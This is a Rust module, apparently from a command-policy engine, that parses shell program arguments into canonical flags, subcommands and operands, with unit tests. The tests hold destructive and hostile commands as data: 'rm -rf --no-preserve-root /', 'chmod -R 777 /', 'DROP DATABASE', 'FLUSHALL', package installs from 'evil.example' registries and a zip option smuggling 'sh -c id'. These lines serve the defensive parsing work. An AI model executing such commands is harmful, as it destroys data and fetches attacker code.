//! Argument parsing driven by the program table: subcommand path, canonical
//! flags and operands.
//!
//! Canonical flags: `--long=value` is split into name and value; short bundles
//! are split (`-rf` ⇒ `-r`, `-f`) using the table's knowledge of which short
//! options take a value (`tar -xzf a.tgz` ⇒ `-x`, `-z`, `-f a.tgz`;
//! `git push -uf` ⇒ `-u`, `-f`); `tar`'s dashless first-argument bundle
//! (`tar xzf a.tgz`) is read as options; an unambiguous prefix of a known
//! long option is expanded (`git reset --har` ⇒ `--hard`). A word made only
//! of digits after the dash (`head -20`) is one flag. Programs not in the
//! table get a generic parse: bundles split, `--x=y` split, options anywhere,
//! no option takes a separate value.

use serde::Serialize;

use super::table::{self, OptKind, Permute, ProgramSpec, Scope, Syntax};
use crate::action::{Word, WordPart};

/// One option after canonicalisation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Flag {
    /// The canonical name: `-f`, `--force` (prefix-expanded), or `-auto-approve`
    /// for single-dash programs. A bundle `-fu` gives two flags.
    pub name: String,
    /// The option's value, when it takes one and it was given.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub value: Option<Word>,
}

/// A program's arguments split into subcommand path, flags and operands.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
pub struct ParsedArgs {
    /// The subcommand path, canonical names (`["s3", "rb"]`, `["install"]` for `npm i`).
    pub subcommand: Vec<String>,
    /// The options in order, from every level of the subcommand path.
    pub flags: Vec<Flag>,
    /// The operands in order (after the subcommand path).
    pub operands: Vec<Word>,
    /// True when a `--` ended the options.
    pub dashdash: bool,
    /// The number of operands before the `--`, when there was one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dashdash_at: Option<usize>,
}

impl ParsedArgs {
    /// True when one of these option names is present.
    pub fn has(&self, names: &[&str]) -> bool {
        self.flags.iter().any(|f| names.contains(&f.name.as_str()))
    }

    /// The values of every occurrence of these options, in order.
    pub fn values<'a>(&'a self, names: &'a [&'a str]) -> impl Iterator<Item = &'a Word> + 'a {
        self.flags
            .iter()
            .filter(move |f| names.contains(&f.name.as_str()))
            .filter_map(|f| f.value.as_ref())
    }

    /// The subcommand path as string slices.
    pub fn subcommand_path(&self) -> Vec<&str> {
        self.subcommand.iter().map(String::as_str).collect()
    }
}

/// Parses a program's arguments (the words after the command name) with the
/// program's table row, or generically when the program is not in the table.
///
/// ```
/// use policy_core::programs::parse;
/// use policy_core::Word;
///
/// let args: Vec<Word> = ["-C", "/repo", "push", "-uf", "--mirr", "origin"]
///     .into_iter()
///     .map(Word::literal)
///     .collect();
/// let parsed = parse("git", &args);
/// assert_eq!(parsed.subcommand, ["push"]);
/// let names: Vec<&str> = parsed.flags.iter().map(|f| f.name.as_str()).collect();
/// assert_eq!(names, ["-C", "-u", "-f", "--mirror"]);
/// assert_eq!(parsed.operands[0].text(), "origin");
/// ```
pub fn parse(program: &str, args: &[Word]) -> ParsedArgs {
    parse_with(table::lookup(program).unwrap_or(&table::GENERIC), args)
}

/// [`parse`] with the program's row already looked up.
pub(crate) fn parse_with(spec: &'static ProgramSpec, args: &[Word]) -> ParsedArgs {
    match spec.syntax {
        Syntax::Find => parse_find(spec, args),
        Syntax::Getopt | Syntax::GoFlag => Parser::new(spec).run(args),
    }
}

/// The canonical name of a long option of `program` after the subcommand
/// path `subcommand`: the full name when `name` is an unambiguous prefix of a
/// known long option (`--forc` of `git push` ⇒ `--force`), else `name`
/// unchanged. When several known options start with `name` and one of them is
/// a prefix of all the others, that one is chosen (`--forc` ⇒ `--force`
/// rather than `--force-with-lease`); git itself reports such a word as
/// ambiguous and does nothing, so the shortest reading is the cautious one.
///
/// ```
/// use policy_core::programs::canonical_long;
///
/// assert_eq!(canonical_long("git", &["reset"], "--har"), "--hard");
/// assert_eq!(canonical_long("git", &["push"], "--mirr"), "--mirror");
/// assert_eq!(canonical_long("rm", &[], "--recursive"), "--recursive");
/// ```
pub fn canonical_long(program: &str, subcommand: &[&str], name: &str) -> String {
    let Some(spec) = table::lookup(program) else {
        return name.to_string();
    };
    let mut parser = Parser::new(spec);
    for sub in subcommand {
        let current = parser.current();
        match current.subcommands.iter().find(|s| s.names.contains(sub)) {
            Some(child) => parser.chain.push(child),
            None => break,
        }
    }
    parser.resolve_long(name)
}

/// A program's scopes along a subcommand path, outermost first.
pub(crate) type ScopeChain = smallvec::SmallVec<[&'static Scope; 4]>;

/// The state of one parse.
struct Parser {
    spec: &'static ProgramSpec,
    /// The scopes of the subcommand path so far, outermost first (inline:
    /// table paths are a few levels deep).
    chain: ScopeChain,
    out: ParsedArgs,
    implicit_used: usize,
    options_done: bool,
}

impl Parser {
    fn new(spec: &'static ProgramSpec) -> Parser {
        Parser {
            spec,
            chain: smallvec::smallvec![&spec.root],
            out: ParsedArgs::default(),
            implicit_used: 0,
            options_done: false,
        }
    }

    fn current(&self) -> &'static Scope {
        self.chain.last().copied().unwrap_or(&self.spec.root)
    }

    /// The scopes whose options are accepted here, innermost first.
    fn lookup_scopes(&self) -> impl Iterator<Item = &'static Scope> + '_ {
        let all = if self.spec.inherit_options {
            self.chain.len()
        } else {
            1
        };
        self.chain.iter().rev().take(all).copied()
    }

    fn kind(&self, name: &str) -> OptKind {
        self.lookup_scopes()
            .map(|s| s.kind(name))
            .find(|k| *k != OptKind::Unknown)
            .unwrap_or(OptKind::Unknown)
    }

    fn permute(&self) -> Permute {
        self.chain
            .iter()
            .rev()
            .map(|s| s.permute)
            .find(|p| *p != Permute::Inherit)
            .unwrap_or(self.spec.permute)
    }

    /// Expands an unambiguous prefix of a known long option.
    fn resolve_long(&self, name: &str) -> String {
        if !self.spec.prefix_long || !name.starts_with("--") || name.len() <= 2 {
            return name.to_string();
        }
        let mut known = self.lookup_scopes().flat_map(|s| s.long_names());
        if known.any(|k| k == name) {
            return name.to_string();
        }
        let mut candidates: Vec<&'static str> = self
            .lookup_scopes()
            .flat_map(|s| s.long_names())
            .filter(|k| k.starts_with(name))
            .collect();
        candidates.sort_unstable();
        candidates.dedup();
        match candidates.as_slice() {
            [] => name.to_string(),
            [one] => (*one).to_string(),
            [shortest, rest @ ..] => {
                // Sorted: a prefix of all the others sorts first.
                if rest.iter().all(|c| c.starts_with(shortest)) {
                    (*shortest).to_string()
                } else {
                    name.to_string()
                }
            }
        }
    }

    fn push_flag(&mut self, name: String, value: Option<Word>) {
        self.out.flags.push(Flag { name, value });
    }

    fn run(mut self, args: &[Word]) -> ParsedArgs {
        let mut i = 0;
        if self.spec.first_arg_bundle {
            i = self.first_arg_bundle(args);
        }
        while i < args.len() {
            let word = &args[i];
            if !self.options_done {
                let whole = word.literal_cow();
                if whole.as_deref() == Some("--") {
                    self.out.dashdash = true;
                    self.out.dashdash_at = Some(self.out.operands.len());
                    self.options_done = true;
                    i += 1;
                    continue;
                }
                let prefix = word.literal_prefix_cow();
                let looks_like_option =
                    prefix.starts_with('-') && (prefix.len() > 1 || word.is_dynamic());
                if looks_like_option && !self.is_mode_word(whole.as_deref()) {
                    i = self.option(args, i);
                    continue;
                }
            }
            self.operand(word);
            i += 1;
        }
        self.out
    }

    /// `chmod -x f`: a dash word with letters that are not known short options.
    fn is_mode_word(&self, whole: Option<&str>) -> bool {
        if !self.spec.unknown_short_is_operand {
            return false;
        }
        let Some(text) = whole else {
            return false;
        };
        if text.starts_with("--") {
            return false;
        }
        text.chars()
            .skip(1)
            .any(|c| self.kind(&format!("-{c}")) == OptKind::Unknown)
    }

    /// `tar xzf a.tgz`: letters of a dashless first argument are options; the
    /// ones that take a value consume the following arguments in order.
    fn first_arg_bundle(&mut self, args: &[Word]) -> usize {
        let Some(first) = args.first().and_then(Word::as_literal) else {
            return 0;
        };
        if first.is_empty() || !first.chars().all(|c| c.is_ascii_alphabetic()) {
            return 0;
        }
        let mut next = 1;
        for c in first.chars() {
            let name = format!("-{c}");
            if self.kind(&name) == OptKind::Value {
                let value = args.get(next).cloned();
                next += 1;
                self.push_flag(name, value);
            } else {
                self.push_flag(name, None);
            }
        }
        next.min(args.len())
    }

    fn operand(&mut self, word: &Word) {
        if self.out.operands.is_empty() && self.out.dashdash_at.is_none() {
            if let Some(text) = word.literal_cow() {
                if self.spec.toolchain_arg && self.out.subcommand.is_empty() {
                    if let Some(toolchain) = text.strip_prefix('+') {
                        self.push_flag("+toolchain".into(), Some(Word::literal(toolchain)));
                        return;
                    }
                }
                let current = self.current();
                if let Some(child) = current
                    .subcommands
                    .iter()
                    .find(|s| s.names.contains(&&*text))
                {
                    let canonical = child.names.first().copied().unwrap_or(&text);
                    self.out.subcommand.push(canonical.to_string());
                    self.chain.push(child);
                    self.implicit_used = 0;
                    return;
                }
                if self.implicit_used < current.implicit_subcommands {
                    self.out.subcommand.push(text.into_owned());
                    self.implicit_used += 1;
                    return;
                }
            }
        }
        self.out.operands.push(word.clone());
        let limit = match self.permute() {
            Permute::Never => Some(0),
            Permute::UntilOperand(n) => Some(n),
            Permute::Always | Permute::Inherit => None,
        };
        if limit.is_some_and(|n| self.out.operands.len() > n) {
            self.options_done = true;
        }
    }

    /// Parses the option word at `i`; returns the index of the next word.
    fn option(&mut self, args: &[Word], i: usize) -> usize {
        let word = &args[i];
        let prefix = word.literal_prefix_cow();
        match self.spec.syntax {
            Syntax::GoFlag => self.go_option(args, i),
            _ if prefix.starts_with("--") => self.long_option(args, i),
            _ => self.short_option(args, i),
        }
    }

    /// A value in the next argument, for an option that takes one.
    fn take_next(&mut self, name: String, args: &[Word], i: usize) -> usize {
        let value = args.get(i + 1).cloned();
        self.push_flag(name, value);
        (i + 2).min(args.len())
    }

    fn long_option(&mut self, args: &[Word], i: usize) -> usize {
        let word = &args[i];
        let prefix = word.literal_prefix_cow();
        let body = &prefix[2..];
        if let Some(eq) = body.find('=') {
            let name = self.resolve_long(&format!("--{}", &body[..eq]));
            let value = drop_bytes(word, 2 + eq + 1);
            self.push_flag(name, Some(value));
            return i + 1;
        }
        if word.is_dynamic() {
            // `--$OPT`: the name is not known statically.
            self.push_flag(word.text(), None);
            return i + 1;
        }
        let name = self.resolve_long(&prefix);
        match self.kind(&name) {
            OptKind::Value => self.take_next(name, args, i),
            OptKind::Optional | OptKind::Flag => {
                self.push_flag(name, None);
                i + 1
            }
            OptKind::Unknown => {
                let guess = self.current().guess_long_values;
                let next_is_value = args
                    .get(i + 1)
                    .is_some_and(|n| !n.literal_prefix_cow().starts_with('-'));
                if guess && next_is_value {
                    self.take_next(name, args, i)
                } else {
                    self.push_flag(name, None);
                    i + 1
                }
            }
        }
    }

    fn short_option(&mut self, args: &[Word], i: usize) -> usize {
        let word = &args[i];
        let prefix = word.literal_prefix_cow();
        // A whole word that is a known multi-letter option (`zip -TT`, `socat -lf`, `-nv`).
        if !word.is_dynamic() && prefix.chars().count() > 2 {
            match self.kind(&prefix) {
                OptKind::Value => return self.take_next(prefix.into_owned(), args, i),
                OptKind::Optional | OptKind::Flag => {
                    self.push_flag(prefix.into_owned(), None);
                    return i + 1;
                }
                OptKind::Unknown => {}
            }
        }
        if !self.spec.bundling {
            if word.is_dynamic() {
                self.push_flag(word.text(), None);
                return i + 1;
            }
            return match self.kind(&prefix) {
                OptKind::Value => self.take_next(prefix.into_owned(), args, i),
                _ => {
                    self.push_flag(prefix.into_owned(), None);
                    i + 1
                }
            };
        }
        if !word.is_dynamic() && prefix[1..].chars().all(|c| c.is_ascii_digit()) {
            self.push_flag(prefix.into_owned(), None);
            return i + 1;
        }
        for (idx, c) in prefix.char_indices().skip(1) {
            let name = format!("-{c}");
            let rest_at = idx + c.len_utf8();
            match self.kind(&name) {
                OptKind::Value => {
                    let rest = drop_bytes(word, rest_at);
                    if is_empty(&rest) {
                        return self.take_next(name, args, i);
                    }
                    self.push_flag(name, Some(rest));
                    return i + 1;
                }
                OptKind::Optional => {
                    let rest = drop_bytes(word, rest_at);
                    let value = (!is_empty(&rest)).then_some(rest);
                    self.push_flag(name, value);
                    return i + 1;
                }
                OptKind::Flag | OptKind::Unknown => self.push_flag(name, None),
            }
        }
        if word.is_dynamic() {
            // `-rf$X`: the remaining letters are not known statically.
            let rest = drop_bytes(word, prefix.len());
            self.push_flag(format!("-{}", rest.text()), None);
        }
        i + 1
    }

    fn go_option(&mut self, args: &[Word], i: usize) -> usize {
        let word = &args[i];
        let prefix = word.literal_prefix_cow();
        let dashes = if prefix.starts_with("--") { 2 } else { 1 };
        let body = &prefix[dashes..];
        if let Some(eq) = body.find('=') {
            let name = format!("-{}", &body[..eq]);
            let value = drop_bytes(word, dashes + eq + 1);
            self.push_flag(name, Some(value));
            return i + 1;
        }
        if word.is_dynamic() {
            self.push_flag(word.text(), None);
            return i + 1;
        }
        let name = format!("-{body}");
        match self.kind(&name) {
            OptKind::Value => self.take_next(name, args, i),
            _ => {
                self.push_flag(name, None);
                i + 1
            }
        }
    }
}

/// `find [-H|-L|-P] [-D opts] [-Olevel] [start…] [expression]`: start paths
/// are operands; primaries are flags, with their value when they take one;
/// `-exec cmd … ;` is one flag whose value is the command joined by spaces.
fn parse_find(spec: &'static ProgramSpec, args: &[Word]) -> ParsedArgs {
    let scope = &spec.root;
    let mut out = ParsedArgs::default();
    let mut i = 0;
    // Leading options.
    while let Some(text) = args.get(i).and_then(Word::as_literal) {
        match text.as_str() {
            "-H" | "-L" | "-P" => out.flags.push(Flag {
                name: text,
                value: None,
            }),
            "-D" => {
                out.flags.push(Flag {
                    name: text,
                    value: args.get(i + 1).cloned(),
                });
                i += 1;
            }
            t if t.starts_with("-O") && t.len() > 2 => out.flags.push(Flag {
                name: text,
                value: None,
            }),
            "--" => {
                out.dashdash = true;
                out.dashdash_at = Some(0);
                i += 1;
                break;
            }
            _ => break,
        }
        i += 1;
    }
    // Start paths.
    while let Some(word) = args.get(i) {
        let prefix = word.literal_prefix_cow();
        let starts_expression = (prefix.starts_with('-') && prefix.len() > 1)
            || prefix == "("
            || prefix == "!"
            || (prefix == "-" && word.is_dynamic());
        if starts_expression {
            break;
        }
        out.operands.push(word.clone());
        i += 1;
    }
    // The expression.
    while i < args.len() {
        let Some(text) = args[i].as_literal() else {
            i += 1;
            continue;
        };
        if table::FIND_EXEC.contains(&text.as_str()) {
            let start = i + 1;
            let mut end = start;
            while end < args.len() {
                let t = args[end].as_literal();
                let prev_braces =
                    end > start && args[end - 1].as_literal().as_deref() == Some("{}");
                if t.as_deref() == Some(";") || (t.as_deref() == Some("+") && prev_braces) {
                    break;
                }
                end += 1;
            }
            let value = (end > start).then(|| join_words(&args[start..end]));
            out.flags.push(Flag { name: text, value });
            i = end + 1;
            continue;
        }
        match text.as_str() {
            "(" | ")" | "!" | "," | "\\(" | "\\)" => {
                i += 1;
            }
            "-fprintf" => {
                out.flags.push(Flag {
                    name: text,
                    value: args.get(i + 1).cloned(),
                });
                i += 3;
            }
            t if scope.kind(t) == OptKind::Value || (t.starts_with("-newer") && t.len() == 8) => {
                out.flags.push(Flag {
                    name: text,
                    value: args.get(i + 1).cloned(),
                });
                i += 2;
            }
            t if t.starts_with('-') => {
                out.flags.push(Flag {
                    name: text,
                    value: None,
                });
                i += 1;
            }
            // Not valid in an expression; find reports an error.
            _ => i += 1,
        }
    }
    out
}

/// True when a word has no text at all.
fn is_empty(w: &Word) -> bool {
    w.parts
        .iter()
        .all(|p| matches!(p, WordPart::Literal(s) if s.is_empty()))
}

/// The word without its first `n` bytes, which lie in its literal prefix.
pub(crate) fn drop_bytes(w: &Word, n: usize) -> Word {
    let mut left = n;
    let mut parts = Vec::new();
    for p in &w.parts {
        match p {
            WordPart::Literal(s) if left > 0 => {
                if s.len() <= left {
                    left -= s.len();
                } else {
                    let rest = s.get(left..).unwrap_or_default().to_string();
                    left = 0;
                    parts.push(WordPart::Literal(rest));
                }
            }
            other => {
                left = 0;
                parts.push(other.clone());
            }
        }
    }
    Word {
        parts,
        glob: w.glob,
    }
}

/// Words joined by single spaces into one word.
pub(crate) fn join_words(words: &[Word]) -> Word {
    let mut parts = Vec::new();
    let mut glob = false;
    for (n, w) in words.iter().enumerate() {
        if n > 0 {
            parts.push(WordPart::Literal(" ".into()));
        }
        parts.extend(w.parts.iter().cloned());
        glob |= w.glob;
    }
    Word { parts, glob }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn words(s: &[&str]) -> Vec<Word> {
        s.iter().map(|w| Word::literal(*w)).collect()
    }

    fn p(program: &str, args: &[&str]) -> ParsedArgs {
        parse(program, &words(args))
    }

    fn names(parsed: &ParsedArgs) -> Vec<&str> {
        parsed.flags.iter().map(|f| f.name.as_str()).collect()
    }

    fn ops(parsed: &ParsedArgs) -> Vec<String> {
        parsed.operands.iter().map(Word::text).collect()
    }

    fn value(parsed: &ParsedArgs, name: &str) -> Option<String> {
        parsed
            .flags
            .iter()
            .find(|f| f.name == name)
            .and_then(|f| f.value.as_ref())
            .map(Word::text)
    }

    #[test]
    fn rm_bundles_and_long_flags() {
        let r = p("rm", &["-rf", "--no-preserve-root", "/"]);
        assert_eq!(names(&r), ["-r", "-f", "--no-preserve-root"]);
        assert_eq!(ops(&r), ["/"]);
    }

    #[test]
    fn rm_gnu_permutation() {
        let r = p("rm", &["x", "-rf"]);
        assert_eq!(names(&r), ["-r", "-f"]);
        assert_eq!(ops(&r), ["x"]);
        let r = p("rm", &["--", "-rf"]);
        assert!(r.dashdash);
        assert!(r.flags.is_empty());
        assert_eq!(ops(&r), ["-rf"]);
    }

    #[test]
    fn rm_long_prefix() {
        let r = p("rm", &["--recur", "--forc", "d"]);
        assert_eq!(names(&r), ["--recursive", "--force"]);
    }

    #[test]
    fn long_equals_split() {
        let r = p("cp", &["--target-directory=/dst", "a"]);
        assert_eq!(value(&r, "--target-directory").as_deref(), Some("/dst"));
        assert_eq!(ops(&r), ["a"]);
        let r = p("cp", &["-t", "/dst", "a"]);
        assert_eq!(value(&r, "-t").as_deref(), Some("/dst"));
    }

    #[test]
    fn git_global_options_then_subcommand() {
        let r = p(
            "git",
            &[
                "-C",
                "/repo",
                "-c",
                "color.ui=never",
                "push",
                "--force",
                "origin",
                "main",
            ],
        );
        assert_eq!(r.subcommand, ["push"]);
        assert_eq!(value(&r, "-C").as_deref(), Some("/repo"));
        assert_eq!(value(&r, "-c").as_deref(), Some("color.ui=never"));
        assert!(r.has(&["--force"]));
        assert_eq!(ops(&r), ["origin", "main"]);
    }

    #[test]
    fn git_push_bundle_and_prefixes() {
        let r = p("git", &["push", "-uf", "origin", "main"]);
        assert_eq!(names(&r), ["-u", "-f"]);
        assert_eq!(ops(&r), ["origin", "main"]);
        let r = p("git", &["push", "--mirr", "origin"]);
        assert_eq!(names(&r), ["--mirror"]);
        let r = p("git", &["push", "--forc", "origin"]);
        assert_eq!(names(&r), ["--force"]);
        let r = p("git", &["push", "--force-w=main", "origin"]);
        assert_eq!(names(&r), ["--force-with-lease"]);
        assert_eq!(value(&r, "--force-with-lease").as_deref(), Some("main"));
    }

    #[test]
    fn git_reset_hard_prefix() {
        let r = p("git", &["reset", "--har", "HEAD~2"]);
        assert_eq!(r.subcommand, ["reset"]);
        assert_eq!(names(&r), ["--hard"]);
        assert_eq!(ops(&r), ["HEAD~2"]);
        assert_eq!(canonical_long("git", &["reset"], "--har"), "--hard");
        assert_eq!(canonical_long("curl", &[], "--outp"), "--outp");
    }

    #[test]
    fn git_scoped_options() {
        // `-C` of commit takes a value but is not the global `-C`.
        let r = p("git", &["commit", "-C", "HEAD", "-am", "msg"]);
        assert_eq!(value(&r, "-C").as_deref(), Some("HEAD"));
        assert_eq!(value(&r, "-m").as_deref(), Some("msg"));
        assert!(r.has(&["-a"]));
        assert!(r.operands.is_empty());
    }

    #[test]
    fn git_unknown_subcommand_is_implicit() {
        let r = p("git", &["frobnicate", "x"]);
        assert_eq!(r.subcommand, ["frobnicate"]);
        assert_eq!(ops(&r), ["x"]);
        let r = p("git", &["remote", "add", "up", "https://x/y.git"]);
        assert_eq!(r.subcommand, ["remote", "add"]);
        assert_eq!(ops(&r), ["up", "https://x/y.git"]);
        let r = p("git", &["checkout", "HEAD", "--", "a.txt"]);
        assert_eq!(r.dashdash_at, Some(1));
    }

    #[test]
    fn tar_bundles() {
        let r = p("tar", &["-czf", "out.tgz", "dir"]);
        assert_eq!(names(&r), ["-c", "-z", "-f"]);
        assert_eq!(value(&r, "-f").as_deref(), Some("out.tgz"));
        assert_eq!(ops(&r), ["dir"]);
        let r = p("tar", &["xzf", "a.tgz", "-C", "/tmp"]);
        assert_eq!(names(&r), ["-x", "-z", "-f", "-C"]);
        assert_eq!(value(&r, "-f").as_deref(), Some("a.tgz"));
        assert_eq!(value(&r, "-C").as_deref(), Some("/tmp"));
        assert!(r.operands.is_empty());
        let r = p("tar", &["-xfa.tar"]);
        assert_eq!(value(&r, "-f").as_deref(), Some("a.tar"));
        let r = p("tar", &["cfb", "out.tar", "20", "dir"]);
        assert_eq!(value(&r, "-f").as_deref(), Some("out.tar"));
        assert_eq!(value(&r, "-b").as_deref(), Some("20"));
        assert_eq!(ops(&r), ["dir"]);
    }

    #[test]
    fn aws_subcommand_path() {
        let r = p("aws", &["s3", "rb", "s3://bucket", "--force"]);
        assert_eq!(r.subcommand, ["s3", "rb"]);
        assert_eq!(ops(&r), ["s3://bucket"]);
        assert!(r.has(&["--force"]));
        let r = p(
            "aws",
            &[
                "--region",
                "us-east-1",
                "ec2",
                "terminate-instances",
                "--instance-ids",
                "i-1",
            ],
        );
        assert_eq!(r.subcommand, ["ec2", "terminate-instances"]);
        assert_eq!(value(&r, "--instance-ids").as_deref(), Some("i-1"));
        assert!(r.operands.is_empty());
    }

    #[test]
    fn kubectl_global_before_subcommand() {
        let r = p("kubectl", &["-n", "prod", "delete", "deployment", "x"]);
        assert_eq!(r.subcommand, ["delete"]);
        assert_eq!(value(&r, "-n").as_deref(), Some("prod"));
        assert_eq!(ops(&r), ["deployment", "x"]);
        // Inherited options after the subcommand, `logs -f` is a flag.
        let r = p("kubectl", &["logs", "-f", "pod", "-n", "prod"]);
        assert_eq!(value(&r, "-n").as_deref(), Some("prod"));
        assert!(r.has(&["-f"]));
        assert_eq!(ops(&r), ["pod"]);
    }

    #[test]
    fn terraform_single_dash() {
        let r = p(
            "terraform",
            &["-chdir=infra", "apply", "-auto-approve", "-var", "a=b"],
        );
        assert_eq!(r.subcommand, ["apply"]);
        assert_eq!(value(&r, "-chdir").as_deref(), Some("infra"));
        assert!(r.has(&["-auto-approve"]));
        assert_eq!(value(&r, "-var").as_deref(), Some("a=b"));
        let r = p("terraform", &["apply", "--auto-approve"]);
        assert!(r.has(&["-auto-approve"]));
    }

    #[test]
    fn docker_run_stops_at_image() {
        let r = p(
            "docker",
            &["run", "--rm", "-v", "/:/host", "alpine", "ls", "-la"],
        );
        assert_eq!(r.subcommand, ["run"]);
        assert_eq!(value(&r, "-v").as_deref(), Some("/:/host"));
        assert_eq!(ops(&r), ["alpine", "ls", "-la"]);
    }

    #[test]
    fn ssh_options_after_host_but_not_after_command() {
        let r = p("ssh", &["host", "-p", "2222", "ls", "-la"]);
        assert_eq!(value(&r, "-p").as_deref(), Some("2222"));
        assert_eq!(ops(&r), ["host", "ls", "-la"]);
    }

    #[test]
    fn xargs_stops_at_command() {
        let r = p("xargs", &["-0", "-n1", "rm", "-f"]);
        assert_eq!(names(&r), ["-0", "-n"]);
        assert_eq!(value(&r, "-n").as_deref(), Some("1"));
        assert_eq!(ops(&r), ["rm", "-f"]);
    }

    #[test]
    fn find_expression() {
        let r = p("find", &[".", "-name", "*.pyc", "-delete"]);
        assert_eq!(ops(&r), ["."]);
        assert_eq!(value(&r, "-name").as_deref(), Some("*.pyc"));
        assert!(r.has(&["-delete"]));
        let r = p(
            "find",
            &[
                "/a", "/b", "(", "-type", "f", ")", "-exec", "rm", "{}", ";", "-print",
            ],
        );
        assert_eq!(ops(&r), ["/a", "/b"]);
        assert_eq!(value(&r, "-exec").as_deref(), Some("rm {}"));
        assert!(r.has(&["-print"]));
        let r = p("find", &["-L", "-newermt", "2024-01-01"]);
        assert!(r.operands.is_empty());
        assert_eq!(value(&r, "-newermt").as_deref(), Some("2024-01-01"));
    }

    #[test]
    fn chmod_mode_words_are_operands() {
        let r = p("chmod", &["-x", "f"]);
        assert!(r.flags.is_empty());
        assert_eq!(ops(&r), ["-x", "f"]);
        let r = p("chmod", &["-R", "777", "/"]);
        assert_eq!(names(&r), ["-R"]);
        assert_eq!(ops(&r), ["777", "/"]);
    }

    #[test]
    fn sed_optional_suffix() {
        let r = p("sed", &["-i.bak", "s/a/b/", "f"]);
        assert_eq!(value(&r, "-i").as_deref(), Some(".bak"));
        let r = p("sed", &["-i", "s/a/b/", "f.txt"]);
        assert_eq!(value(&r, "-i"), None);
        assert_eq!(ops(&r), ["s/a/b/", "f.txt"]);
        let r = p("sed", &["-ne", "p", "f"]);
        assert_eq!(value(&r, "-e").as_deref(), Some("p"));
        assert_eq!(ops(&r), ["f"]);
    }

    #[test]
    fn digits_are_one_flag() {
        let r = p("head", &["-20", "f"]);
        assert_eq!(names(&r), ["-20"]);
        assert_eq!(ops(&r), ["f"]);
    }

    #[test]
    fn wget_attached_dash_value() {
        let r = p("wget", &["-O-", "https://x"]);
        assert_eq!(value(&r, "-O").as_deref(), Some("-"));
        assert_eq!(ops(&r), ["https://x"]);
    }

    #[test]
    fn npm_alias_and_registry() {
        let r = p("npm", &["i", "--registry", "https://evil.example", "pkg"]);
        assert_eq!(r.subcommand, ["install"]);
        assert_eq!(
            value(&r, "--registry").as_deref(),
            Some("https://evil.example")
        );
        assert_eq!(ops(&r), ["pkg"]);
    }

    #[test]
    fn cargo_toolchain() {
        let r = p(
            "cargo",
            &["+nightly", "install", "--git", "https://x/y", "tool"],
        );
        assert_eq!(r.subcommand, ["install"]);
        assert_eq!(value(&r, "+toolchain").as_deref(), Some("nightly"));
        assert_eq!(value(&r, "--git").as_deref(), Some("https://x/y"));
        assert_eq!(ops(&r), ["tool"]);
    }

    #[test]
    fn pip_version_suffix() {
        let r = p("pip3.12", &["install", "-i", "https://evil/simple", "x"]);
        assert_eq!(r.subcommand, ["install"]);
        assert_eq!(value(&r, "-i").as_deref(), Some("https://evil/simple"));
    }

    #[test]
    fn mysql_attached_password() {
        let r = p(
            "mysql",
            &["-uroot", "-psecret", "-h", "db", "-e", "DROP DATABASE x"],
        );
        assert_eq!(value(&r, "-u").as_deref(), Some("root"));
        assert_eq!(value(&r, "-p").as_deref(), Some("secret"));
        assert_eq!(value(&r, "-h").as_deref(), Some("db"));
        assert!(r.operands.is_empty());
    }

    #[test]
    fn redis_cli_command_after_options() {
        let r = p("redis-cli", &["-h", "cache", "-n", "2", "FLUSHALL", "-x"]);
        assert_eq!(value(&r, "-h").as_deref(), Some("cache"));
        assert_eq!(ops(&r), ["FLUSHALL", "-x"]);
    }

    #[test]
    fn zip_whole_word_options() {
        let r = p("zip", &["-r", "out.zip", "dir", "-TT", "sh -c id"]);
        assert_eq!(value(&r, "-TT").as_deref(), Some("sh -c id"));
        assert_eq!(ops(&r), ["out.zip", "dir"]);
    }

    #[test]
    fn generic_program() {
        let r = p("frob", &["-abc", "--out=x", "y", "-z"]);
        assert_eq!(names(&r), ["-a", "-b", "-c", "--out", "-z"]);
        assert_eq!(value(&r, "--out").as_deref(), Some("x"));
        assert_eq!(ops(&r), ["y"]);
    }

    #[test]
    fn dynamic_words() {
        let args = vec![
            Word {
                parts: vec![
                    WordPart::Literal("--output=".into()),
                    WordPart::Dynamic(crate::action::Dynamic {
                        source: "$F".into(),
                        producer: None,
                    }),
                ],
                glob: false,
            },
            Word::literal("https://x"),
        ];
        let r = parse("curl", &args);
        assert_eq!(names(&r), ["--output"]);
        assert_eq!(value(&r, "--output").as_deref(), Some("$F"));
        assert!(r.flags[0].value.as_ref().unwrap().is_dynamic());
        let r = parse("rm", &[Word::dynamic("$X", None)]);
        assert_eq!(r.operands.len(), 1);
    }
}
